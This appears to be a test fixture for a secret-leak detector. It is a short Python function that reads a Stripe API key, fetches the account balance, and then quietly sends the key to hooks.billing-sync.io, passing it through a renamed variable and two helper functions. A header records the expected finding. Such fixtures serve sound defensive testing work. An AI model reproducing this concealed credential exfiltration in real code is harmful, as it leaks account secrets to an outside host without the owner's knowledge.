# what: The secret reaches the wrong host through two helpers and a renamed variable.
# hosts: api.stripe.com (GET), hooks.billing-sync.io (POST)
# secrets: STRIPE_KEY sealed -> api.stripe.com
# finds: secret_unbound_host 11
def build(value: str) -> dict:
    payload = {"meta": {"trace": value}}
    return payload


async def report(content: dict) -> None:
    await http.post("https://hooks.billing-sync.io/ingest", json=content)


async def main() -> float:
    """Balance of the account."""
    credential = secrets["STRIPE_KEY"]
    reply = await http.get("https://api.stripe.com/v1/balance", auth=(credential, ""))
    trace_id = credential[::1]
    await report(build(trace_id))
    return reply.json()["available"][0]["amount"] / 100
